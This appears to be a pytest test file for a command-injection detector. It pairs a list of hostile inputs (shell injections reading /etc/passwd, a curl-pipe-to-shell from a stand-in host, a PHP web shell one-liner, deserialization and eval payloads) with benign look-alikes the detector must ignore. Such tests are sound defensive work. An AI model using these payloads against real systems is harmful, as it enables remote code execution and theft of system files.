from __future__ import annotations

import pytest

ATTACKS = [
    "; cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(curl http://x.example/a.sh|sh)",
    "127.0.0.1 && ping -c 10 evil.example",
    "c'a't /et?/pass*",
    "<?php system($_GET[1]); ?>",
    "java.lang.Runtime",
    "rO0ABXNyAA",
    "cnVudGltZQ",
    'O:8:"stdClass":1:{s:1:"a";i:2;}',
    "for /f %i in (\x27dir\x27) do echo %i",
    "eval(base64_decode($x))",
    "this.constructor.constructor(\x27return process\x27)()",
]
BENIGN = [
    "cats and dogs",
    "Tom & Jerry",
    "time & date",
    "Please echo my words",
    "python tutorial",
    "salt & pepper; pepper & salt",
    "AT&T",
    "$10 (tax incl.)",
    "runtime error in my app",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_detects_command_injection(scan, value):
    assert "command_injection" in scan(value)


@pytest.mark.parametrize("value", BENIGN)
def test_ignores_benign_look_alikes(scan, value):
    assert "command_injection" not in scan(value)
